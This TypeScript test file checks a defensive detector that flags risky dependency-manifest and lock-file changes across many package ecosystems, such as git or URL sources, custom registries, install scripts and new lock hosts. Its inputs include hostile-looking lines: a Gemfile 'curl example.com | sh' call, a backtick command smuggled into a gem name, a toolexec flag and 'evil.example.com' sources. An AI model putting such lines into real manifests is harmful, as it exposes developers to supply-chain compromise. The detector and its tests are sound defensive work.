import { describe, expect, it } from 'vitest'
import { findDestructive } from '../../../destructive/find-destructive.ts'
import { findInPackages, sourcesOf } from '../../../destructive/packages/find-in-packages.ts'

const shown = async (
  path: string,
  text: string,
  before?: string,
  known?: ReadonlySet<string>,
  isOurs?: boolean,
) =>
  (await findDestructive({ path, text, before, known, isOurs }))
    .filter(({ category }) => category === 'packages')
    .map(({ line, operation }) => `${line} ${operation}`)

const dependency = (spec: string) => JSON.stringify({ dependencies: { x: spec } }, null, 2)
const npm = (more: object) => JSON.stringify({ name: 'x', ...more }, null, 2)
const plugin = (inside: string) =>
  `<project><build><plugins>\n<plugin>${inside}</plugin>\n</plugins></build></project>`

describe('what the change adds needs a person', () => {
  it.each<[path: string, text: string]>([
    ...[
      ...['git+https://example.com/x.git', 'git://example.com/x', 'git@example.com:x/y.git'],
      ...['https://example.com/x.tgz', 'http://example.com/x', 'user/repo', 'user/repo#main'],
      ...['github:user/repo', 'gitlab:user/repo', 'gist:11081aaa281', 'npm:x@https://example.com'],
      ...['file:../../out', '../../out', './x.tgz', 'x.tgz', 'file:/etc', '~/x', 'link:/srv/x'],
      ...['portal:../../x', 'patch:x@npm%3A1#./p', 'exec:./gen.js', 'jsr:@a/b', 'file:C:\\x'],
      ...['workspace:../../../x', ' git+ssh://git@example.com/x', 'GIT+https://example.com/x'],
    ].map((spec): [string, string] => ['web/package.json', dependency(spec)]),
    ['package.json', npm({ overrides: { a: { b: 'git+https://example.com/b' } } })],
    ['package.json', npm({ resolutions: { '**/a': 'https://example.com/a.tgz' } })],
    ['package.json', npm({ pnpm: { overrides: { a: 'user/repo' } } })],
    ['package.json', npm({ pnpm: { onlyBuiltDependencies: ['a'] } })],
    ['package.json', npm({ optionalDependencies: { a: 'user/repo' } })],
    ['package.json', npm({ peerDependencies: { a: 'user/repo' } })],
    ['package.json', npm({ packageManager: 'yarn@https://example.com/yarn.js' })],
    ['package.json', npm({ packageManager: 'pnpm@9.1.0' })],
    ['package.json', npm({ devEngines: { packageManager: { name: 'bun' } } })],
    ['package.json', npm({ scripts: { postinstall: 'node x.js' } })],
    ['package.json', npm({ scripts: { prepare: 'node x.js' } })],
    ['package.json', npm({ trustedDependencies: ['a'] })],
    ['package.json', npm({ workspaces: ['../../elsewhere/*'] })],
    ['package.json', npm({ workspaces: { catalog: { a: 'user/repo' } } })],
    ['package.json5', "{ dependencies: { a: 'user/repo' } }"],
    ['pnpm-workspace.yaml', 'configDependencies:\n  a: 1.0.0+sha512-x\n'],
    ['pnpm-workspace.yaml', 'overrides:\n  a: link:../a\n'],
    ['pnpm-workspace.yaml', 'catalog:\n  a: &x user/repo\n  b: *x\n'],
    ['pnpm-workspace.yaml', 'onlyBuiltDependencies: [a]\n'],
    ['pnpm-workspace.yaml', 'registries:\n  default: https://example.com/\n'],
    ...[
      ...['--index-url https://example.com/simple', '-i https://example.com', '-f https://e.com'],
      ...[
        '--extra-index-url=https://example.com',
        '--find-links ./x',
        '--trusted-host example.com',
      ],
      ...[
        '--no-binary :all:',
        '--no-binary=x',
        '--only-binary :none:',
        '-e .',
        '-e git+https://e/x',
      ],
      ...['--editable ./x', '-r https://example.com/r.txt', '-c ../../c.txt', '-r other.lst'],
      ...['x @ https://example.com/x.tar.gz', 'x@git+https://example.com/x', './x', '../x', '/x'],
      ...['https://example.com/x.zip', 'git+https://example.com/x#egg=x', 'x-1.0.tar.gz', 'x.whl'],
      ...[
        'file:///x',
        'x --config-settings="a=b"',
        'x; python_version > "3" --no-binary=:all:',
        'x ; "a" in " --pre"',
        'x>= --pre',
        'x[ --pre ]',
        'x --global-option=y',
        '$' + '{X}',
        'x \\\n @ https://e/x',
      ],
      ...[
        'requests # c\u2028-i https://example.com',
        'requests\f-i https://example.com',
        'x [a] @ https://e/x',
      ],
      ...['# -*- coding: utf-7 -*-\nrequests', '--pre\r-e .', '# c \\\n-e .', '--use-pep517'],
    ].map((line): [string, string] => ['requirements-dev.txt', `${line}\n`]),
    ['constraints.txt', 'x @ https://example.com/x.whl'],
    ['requirements/base.in', '-e .'],
    ['pyproject.toml', '[project]\ndependencies = ["x @ https://example.com/x.zip"]'],
    ['pyproject.toml', '[project.optional-dependencies]\na = ["x @ git+https://e/x"]'],
    ['pyproject.toml', '[dependency-groups]\ndev = ["x @ file:///x"]'],
    ['pyproject.toml', '[build-system]\nrequires = ["x @ https://example.com/x.zip"]'],
    ['pyproject.toml', '[build-system]\nrequires = []\nbackend-path = ["."]'],
    ['pyproject.toml', '[tool.uv.sources]\nx = { git = "https://example.com/x" }'],
    ['pyproject.toml', '[tool.uv.sources]\nx = [{ url = "https://example.com/x.whl" }]'],
    ['pyproject.toml', '[tool.uv.sources]\nx = { path = "../../x" }'],
    ['pyproject.toml', '[tool.uv.sources]\nx = { index = "own" }'],
    ['pyproject.toml', '[[tool.uv.index]]\nurl = "https://example.com/simple"'],
    ['pyproject.toml', '[tool.uv]\nno-binary-package = ["x"]'],
    ['pyproject.toml', '[tool.uv]\ndev-dependencies = ["x @ https://e/x"]'],
    ['pyproject.toml', '[tool.poetry.dependencies]\nx = { git = "https://example.com/x" }'],
    ['pyproject.toml', '[tool.poetry.group.dev.dependencies]\nx = [{ url = "https://e/x" }]'],
    ['pyproject.toml', '[tool.poetry.dependencies]\nx = { version = "1", source = "own" }'],
    ['pyproject.toml', '[[tool.poetry.source]]\nname = "own"\nurl = "https://example.com"'],
    ['pyproject.toml', '[tool.poetry.requires-plugins]\nx = ">1"'],
    ['uv.toml', 'index-url = "https://example.com"'],
    ['poetry.toml', '[installer]\nno-binary = ":all:"'],
    ['pip.ini', '[global]\nindex-url = https://example.com'],
    ['setup.cfg', '[options]\ninstall_requires =\n  x @ https://example.com/x.zip'],
    ['tox.ini', '[testenv]\ndeps =\n  x @ https://example.com/x.zip'],
    ['Pipfile', '[packages]\nx = { git = "https://example.com/x" }'],
    ['Cargo.toml', '[dependencies]\nx = { git = "https://example.com/x" }'],
    ['Cargo.toml', '[dependencies.x]\nversion = "1"\nregistry = "own"'],
    ['Cargo.toml', '[target.\'cfg(unix)\'.build-dependencies]\nx = { path = "/x" }'],
    ['crates/a/Cargo.toml', '[dev-dependencies]\nx = { path = "../../../x" }'],
    ['Cargo.toml', '[patch.crates-io]\nx = { path = "x" }'],
    ['Cargo.toml', '[workspace.dependencies]\nx = { git = "https://example.com/x" }'],
    ['rust-toolchain.toml', '[toolchain]\nchannel = "nightly"'],
    ['go.mod', 'module a\nreplace b => example.com/c v1.0.0'],
    ['go.mod', 'module a\nreplace (\n  b v1.0.0 => ../../c\n)'],
    ['go.mod', 'module a\ntoolchain go1.22-own'],
    ['go.work', 'use (\n  ../../x\n)'],
    ['Makefile', 'test:\n\tGOPROXY=https://example.com go test ./...'],
    ['Dockerfile', 'ENV PIP_INDEX_URL https://example.com'],
    ['run.sh', 'export GOFLAGS=-toolexec=./x'],
    ['Gemfile', 'gem "x", git: "https://example.com/x"'],
    ['Gemfile', 'gem "x", "~> 1",\n  :github => "a/x"'],
    ['Gemfile', 'source "https://example.com"'],
    ['Gemfile', 'gem "x", path: "../../x"'],
    ['Gemfile', 'plugin "x"'],
    ['Gemfile', 'system("curl example.com | sh")'],
    ['Gemfile', 'gem "#' + '{`id`}"'],
    ['Gemfile', 'eval_gemfile "other"'],
    ['x.gemspec', 'Gem::Specification.new do |s|\n  s.files = `./x`.split\nend'],
    ['composer.json', npm({ repositories: [{ type: 'vcs', url: 'https://example.com/x' }] })],
    ['composer.json', npm({ config: { 'allow-plugins': { 'a/b': true } } })],
    ['composer.json', npm({ scripts: { 'post-install-cmd': 'php x.php' } })],
    [
      'pom.xml',
      '<project><repositories><repository><url>https://e/x</url></repository></repositories></project>',
    ],
    [
      'pom.xml',
      '<project><pluginRepositories><pluginRepository><id>x</id></pluginRepository></pluginRepositories></project>',
    ],
    [
      'pom.xml',
      '<project><dependencies><dependency><systemPath>/x.jar</systemPath></dependency></dependencies></project>',
    ],
    ['pom.xml', plugin('<groupId>com.example</groupId><artifactId>x</artifactId>')],
    [
      'pom.xml',
      plugin(
        '<artifactId>maven-antrun-plugin</artifactId><executions/><configuration>a</configuration>',
      ),
    ],
    [
      'pom.xml',
      '<project><build><extensions><extension><artifactId>x</artifactId></extension></extensions></build></project>',
    ],
    [
      'a.csproj',
      '<Project><PropertyGroup><RestoreSources>https://e</RestoreSources></PropertyGroup></Project>',
    ],
    ['build.gradle', 'repositories { maven { url "https://example.com" } }'],
    ['build.gradle.kts', 'repositories {\n  maven { url = uri("https://example.com") }\n}'],
    ['settings.gradle', 'includeBuild("../../x")'],
    ['build.gradle', 'apply from: "https://example.com/x.gradle"'],
  ])('%s: %j', async (path, text) => {
    expect(await shown(path, text)).not.toEqual([])
    // The contents of the start commit are trusted, wherever they move.
    expect(await shown(path, text, text)).toEqual([])
  })
})

describe('a name with any version needs nobody', () => {
  it.each<[path: string, text: string]>([
    ...[
      ...['', '*', 'x', '^4', '~1.2.3', '>=1 <2 || 3.x', '1.0.0-beta.1+build', 'latest', 'next'],
      ...['npm:y@^1', 'npm:@a/y@1', 'npm:y', 'workspace:*', 'workspace:^', 'workspace:^1.0.0'],
      ...['workspace:../b', 'file:../b', 'link:../b', 'portal:../b', 'catalog:', 'catalog:react18'],
    ].map((spec): [string, string] => ['web/package.json', dependency(spec)]),
    ['package.json', npm({ scripts: { test: 'vitest', build: 'tsc', preinstaller: 'x' } })],
    ['package.json', npm({ overrides: { a: { '.': '1', b: '$b' } }, workspaces: ['packages/*'] })],
    [
      'package.json',
      npm({ engines: { node: '>=22' }, repository: 'user/repo', bin: { a: './a' } }),
    ],
    ['pnpm-workspace.yaml', 'packages:\n  - packages/*\n  - "!**/test/**"\ncatalog:\n  a: ^1\n'],
    [
      'requirements.txt',
      '# all we need\nrequests>=2\nflask[async] ~= 3.0 ; python_version < "3.14"\n-r requirements-dev.txt\n-c constraints.txt\nPyYAML==6.0.* --hash=sha256:ab12\nzope.interface (>=5)\n\n',
    ],
    [
      'requirements.txt',
      'a==1 \\\n    --hash=sha256:aa \\\n    --hash=sha256:bb\n--require-hashes\n',
    ],
    [
      'pyproject.toml',
      '[project]\nname = "x"\ndependencies = ["requests>=2", "a[b]; os_name == \'nt\'"]\nurls = { home = "https://example.com" }\n[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n[dependency-groups]\ndev = ["pytest", { include-group = "x" }]\n[tool.uv]\ndev-dependencies = ["ruff"]\n[tool.uv.sources]\nb = { workspace = true }\nc = { path = "libs/c", editable = true }\n[tool.uv.workspace]\nmembers = ["libs/*"]\n',
    ],
    [
      'pyproject.toml',
      '[tool.poetry]\nname = "x"\n[tool.poetry.dependencies]\npython = "^3.11"\na = "*"\nb = { version = "^1", extras = ["c"], optional = true }\nd = { path = "libs/d", develop = true }\n[tool.poetry.group.dev.dependencies]\npytest = ">=7,<9"\n[tool.ruff]\nline-length = 100\n',
    ],
    [
      'Cargo.toml',
      '[package]\nname = "x"\nbuild = "build.rs"\n[dependencies]\nserde = { version = "1", features = ["derive"] }\nanyhow = "1"\ncore = { path = "core" }\nrand.workspace = true\n[features]\ndefault = ["serde/std"]\n[workspace]\nmembers = ["core"]\n[profile.release]\nlto = true\n',
    ],
    ['crates/a/Cargo.toml', '[dependencies]\nb = { path = "../b", version = "0.1" }\n'],
    [
      'go.mod',
      'module example.com/a\n\ngo 1.22\ntoolchain go1.22.3\n\nrequire (\n\tgithub.com/a/b v1.2.3 // indirect\n)\nreplace example.com/b => ./b\n',
    ],
    ['go.work', 'go 1.22\nuse (\n\t.\n\t./b\n)\n'],
    [
      'Gemfile',
      '# frozen_string_literal: true\nruby "3.3.0"\ngemspec\ngem "rails", "~> 7.0", ">= 7.0.1" # web\ngem \'rspec\', require: false, group: :test\ngroup :development, :test do\n  gem "debug", platforms: %i[mri windows]\n  gem "own", path: "engines/own"\nend\n',
    ],
    [
      'x.gemspec',
      'Gem::Specification.new do |spec|\n  spec.name = "x"\n  spec.version = X::VERSION\n  spec.files = Dir["lib/**/*.rb"]\n  spec.add_dependency "rack", "~> 3"\n  spec.metadata["source_code_uri"] = "https://example.com"\nend\n',
    ],
    [
      'composer.json',
      npm({
        require: { php: '>=8', 'a/b': '^1 || dev-main' },
        scripts: { test: 'phpunit' },
        config: { 'sort-packages': true },
      }),
    ],
    [
      'pom.xml',
      '<project><url>https://e</url><dependencies><dependency><groupId>junit</groupId><artifactId>junit</artifactId><version>4</version></dependency></dependencies><distributionManagement><repository><url>https://e</url></repository></distributionManagement><build><plugins><plugin><artifactId>maven-surefire-plugin</artifactId><version>3.2.5</version></plugin></plugins></build></project>',
    ],
    [
      'build.gradle',
      'plugins { id "java" }\nrepositories { mavenCentral() }\ndependencies { testImplementation "junit:junit:4.13" }',
    ],
    [
      'a.csproj',
      '<Project><ItemGroup><PackageReference Include="xunit" Version="2" /></ItemGroup></Project>',
    ],
    ['Makefile', 'test:\n\tgo test ./...\n'],
    ['docs/requirements.md', 'see https://example.com'],
  ])('%s: %j', async (path, text) => {
    expect(await shown(path, text)).toEqual([])
  })
})

describe('beside what was there', () => {
  it('another address is new, and a moved one is not', async () => {
    const before = npm({ dependencies: { a: 'user/a', b: '^1' } })
    const moved = JSON.stringify({ devDependencies: { b: '^2' }, dependencies: { a: 'user/a' } })
    const other = npm({ dependencies: { a: 'user/other', b: '^1' } })
    expect(await shown('package.json', moved, before)).toEqual([])
    expect(await shown('package.json', other, before)).toEqual(['4 dependencies.a: user/other'])
  })

  it('a plugin of Maven may change its version, not what it does', async () => {
    const own = (version: string, goal: string) =>
      plugin(
        `<groupId>com.example</groupId>\n<artifactId>x</artifactId><version>${version}</version><goal>${goal}</goal>`,
      )
    expect(await shown('pom.xml', own('2', 'a'), own('1', 'a'))).toEqual([])
    expect(await shown('pom.xml', own('1', 'b'), own('1', 'a'))).toEqual(['3 plugin x'])
  })

  it.each<[string, string, number]>([
    ['of the repository', 'maven:org.own:all', 0],
    ['that another pom has already', 'maven:org.springframework.boot:boot-parent', 0],
    ['of others', 'maven:org.evil:all', 1],
    ['without a group', 'maven::all', 1],
  ])('a parent %s in pom.xml', async (_, project, findings) => {
    const [, groupId = '', artifactId = ''] = project.split(':')
    const pom = (group: string, artifact: string) =>
      `<project><parent><groupId>${group}</groupId><artifactId>${artifact}</artifactId><version>1</version></parent><artifactId>all</artifactId></project>`
    const own = '<project><groupId>org.own</groupId><artifactId>all</artifactId></project>'
    const before = [own, pom('org.springframework.boot', 'boot-parent')]
    const known = new Set(before.flatMap((text) => [...sourcesOf('pom.xml', text)]))
    const path = 'web/pom.xml'
    expect(await shown(path, pom(groupId, artifactId), undefined, known)).toHaveLength(findings)
  })

  it('a source of gems that the start commit or the operator names is known', async () => {
    const text = 'source "https://gems.example.com"\n'
    const known = new Set(['https://gems.example.com'])
    expect(await shown('Gemfile', text, undefined, known)).toEqual([])
    expect(await shown('Gemfile', `${text}gem "a"\n`, text)).toEqual([])
  })

  it.each<[path: string, known: string, other: string]>([
    [
      'package-lock.json',
      '{\n"resolved": "https://npm.example.com/a/-/a-1.tgz",\n"funding": { "url": "https://evil.example.com" }\n}',
      '"resolved": "https://evil.example.com/b.tgz"',
    ],
    [
      'package-lock.json',
      '"resolved": "git+ssh://git@git.example.com/a/a.git#1"',
      '"resolved": "git+ssh://git@git.example.com/b/b.git#1"',
    ],
    [
      'yarn.lock',
      '  resolved "https://npm.example.com/a.tgz#1"',
      '  resolved "https://evil.example.com/b.tgz#1"',
    ],
    [
      'yarn.lock',
      '  resolution: "@a/b@npm:1.0.0"',
      '  resolution: "b@https://evil.example.com/b.tgz"',
    ],
    [
      'pnpm-lock.yaml',
      'resolution: {integrity: sha512-x}',
      'resolution: {tarball: https://evil.example.com/b}',
    ],
    ['poetry.lock', 'url = "https://files.example.com/a"', 'url = "https://evil.example.com/a"'],
    [
      'uv.lock',
      'source = { registry = "https://a.example.com/simple" }',
      'source = { git = "https://evil.example.com/x" }',
    ],
    [
      'Cargo.lock',
      'source = "registry+https://c.example.com/index"',
      'source = "git+https://evil.example.com/x#1"',
    ],
    ['Gemfile.lock', '  remote: https://gems.example.com/', '  remote: https://evil.example.com/'],
    [
      'composer.lock',
      '"dist": { "type": "zip", "url": "https://a.example.com/x" }',
      '"dist": { "url": "https://evil.example.com/x" }',
    ],
    ['bun.lock', '"a": ["a@1.0.0", "", {}]', '"b": ["b@git+https://evil.example.com/b", {}]'],
  ])('a lock that leaves what was named: %s', async (path, known, other) => {
    expect(await shown(path, `${known}\n${known}\n`, known)).toEqual([])
    expect(await shown(path, `${known}\n${other}\n${other}\n`, known)).toHaveLength(1)
  })

  it.each<[path: string, registry: string, other: string]>([
    [
      'package-lock.json',
      '"resolved": "https://npm.example.com/a/-/a-1.tgz",\n"funding": { "url": "https://b.example.com" }',
      '"b": "git+https://evil.example.com/b",',
    ],
    ['package-lock.json', '"a": "^1",\n"bin": "bin/a"', '"b": "github:evil/b"'],
    [
      'yarn.lock',
      'a@^1:\n  resolved "https://npm.example.com/a.tgz#1"',
      '"b@https://evil.example.com/b":',
    ],
    [
      'yarn.lock',
      '"a@npm:^1":\n  resolution: "a@npm:1.0.0"',
      '"b@git@evil.example.com:b.git":\n"b@ssh://evil.example.com/b":',
    ],
    [
      'pnpm-lock.yaml',
      'resolution: {integrity: sha512-x}',
      'resolution: {tarball: https://evil.example.com/b}',
    ],
    [
      'uv.lock',
      'source = { registry = "https://a.example.com/simple" }\n{ url = "https://b.example.com/a.whl" }',
      'source = { git = "https://evil.example.com/x" }',
    ],
    [
      'poetry.lock',
      'url = "https://files.example.com/a"',
      '[package.source]\ntype = "git"\nurl = "https://evil.example.com/a"',
    ],
    [
      'Cargo.lock',
      'source = "registry+https://c.example.com/index"',
      'source = "git+https://evil.example.com/x#1"',
    ],
    [
      'Gemfile.lock',
      'GEM\n  remote: https://gems.example.com/',
      'GIT\n  remote: https://evil.example.com/x',
    ],
  ])(
    'a lock file that an installer wrote for us may be the first to name a registry: %s',
    async (path, registry, other) => {
      expect(await shown(path, `${registry}\n`, '', undefined, true)).toEqual([])
      expect(await shown(path, `${registry}\n${other}\n`, '', undefined, true)).toHaveLength(1)
    },
  )
})

describe('a long or deep file', () => {
  it.each<[string, string, string]>([
    ['behind a million characters', 'requirements.txt', `${'# x\n'.repeat(260_000)}-e .\n`],
    [
      'behind a million of a table',
      'Cargo.toml',
      `${'# x\n'.repeat(260_000)}[patch.a]\nb = { git = "https://e/b" }\n`,
    ],
    [
      'in forty tables',
      'package.json',
      `{"overrides":${'{"a":'.repeat(60)}"user/repo"${'}'.repeat(61)}`,
    ],
  ])('is found %s', async (_, path, text) => {
    expect(await shown(path, text)).not.toEqual([])
  })

  it.each<[string, string]>([
    [
      'package.json',
      `{"dependencies":{${Array.from({ length: 30_000 }, (_, at) => `"a${at}":"user/repo"`).join(',\n')}}}`,
    ],
    ['package-lock.json', '\n'.repeat(500_000)],
    ['package-lock.json', `"version": "${'/'.repeat(500_000)}`],
    ['requirements.txt', `a${' '.repeat(500_000)}#`],
    ['requirements.txt', `a${' --hash=sha256:a'.repeat(50_000)} x`],
    ['Gemfile', `gem "a"${' '.repeat(500_000)}x`],
    ['Gemfile', 'gem "a",\n'.repeat(50_000)],
    ['pom.xml', '<plugins><plugin>'.repeat(20_000)],
    ['pom.xml', '<!--'.repeat(100_000)],
    ['pyproject.toml', `[project]\ndependencies = ["a${' '.repeat(300_000)}"]`],
    ['.npmrc', 'a'.repeat(500_000)],
    ['uv.toml', 'a'.repeat(500_000)],
  ])('is read in time that grows with it: %s', { timeout: 20_000 }, async (path, text) => {
    await shown(path, text, text)
  })
})

describe('files of code', () => {
  const traps =
    'ENV GOPROXY=https://x.example.com\n--index-url https://x.example.com\ngem "x", git: "x"\n{"dependencies": {"x": "git://x"}}\n'

  // `findDestructive` does not load the readers of manifests for them.
  it.each([
    ...['setup.py', 'requirements/a.py', 'deps/a.js', '.pnpmfile.cjs', 'build.rs', 'go.go'],
    ...['package.ts', 'pom.java', '.mvn/a.js', 'gems.md', 'composer.css', 'web/vite.config.mts'],
  ])('%s is no manifest', (path) => {
    expect(findInPackages(path, traps, new Set())).toEqual([])
  })

  it.each(['Dockerfile.js', 'a/makefile.py', '.justfile.ts'])('%s is one', async (path) => {
    expect(await shown(path, 'export GOPROXY=https://x.example.com\n')).toHaveLength(1)
  })
})
